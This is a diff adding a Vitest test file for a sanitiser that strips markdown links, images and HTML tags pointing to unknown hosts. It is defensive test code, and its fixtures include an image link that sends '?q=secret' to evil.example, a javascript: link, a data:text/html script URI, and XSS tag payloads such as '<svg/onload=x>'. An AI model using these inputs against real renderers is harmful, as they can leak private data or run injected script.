@@ -1,0 +1,45 @@
+import { expect, test } from 'vitest';
+import { plainText } from '../../../functions/memory/orchestrate/plain-text.ts';
+
+const KNOWN = 'see https://known.example/a for more';
+const flat = (text: string) => plainText(text, (address) => KNOWN.includes(address));
+
+test.each([
+  ['Plain text, a < b, Vec<T>, [F1] and a list:\n- one', 'Plain text, a < b, Vec<T>, [F1] and a list:\n- one'],
+  ['[the page](https://known.example/a "title").', 'the page (https://known.example/a).'],
+  ['![](https://known.example/a)', 'https://known.example/a'],
+  ['Look at https://known.example/a.', 'Look at https://known.example/a.'],
+])('%j stays readable', (text, expected) => {
+  expect(flat(text)).toEqual({ text: expected, hasRemoved: false });
+});
+
+test.each([
+  ['![x](https://evil.example/?q=secret)', 'x ([link removed])'],
+  ['https://known.example/a?q=secret!', '[link removed]!'],
+  ['[x](javascript:alert(1))', 'x ([link removed]))'],
+  ['[x]( <HTTPS://evil.example/x> )', 'x ([link removed])'],
+  ['![x][1]\n\n[1]: https://evil.example/x', '![x][1]\n\n1: [link removed]'],
+  ['<https://evil.example>', '‹[link removed]>'],
+  ['data:text/html,<script>x</script>', '[link removed],‹script>x‹/script>'],
+])('%j loads nothing', (text, expected) => {
+  expect(flat(text)).toEqual({ text: expected, hasRemoved: true });
+});
+
+test.each(['<img src=x>', '< / Script >', '<svg/onload=x>', '<a href="/x">', '<IFRAME\nsrc=x>'])(
+  '%j is no tag any more',
+  (text) => {
+    expect(flat(text).text).toMatch(/^‹/);
+  },
+);
+
+test('no link is left that is longer than the pattern', () => {
+  expect(flat(`[x](https://known.example/a${'b'.repeat(600)})`).text).not.toContain('](');
+});
+
+test.each(['[](a', '![a](', '[', '<a ', 'https://', '[a]: ', '\n['])(
+  '%j again and again is no endless work',
+  (piece) => {
+    // A pattern that backtracks without bound would run into the time limit of the test.
+    expect(flat(piece.repeat(Math.ceil(20_000 / piece.length))).text).toEqual(expect.any(String));
+  },
+);
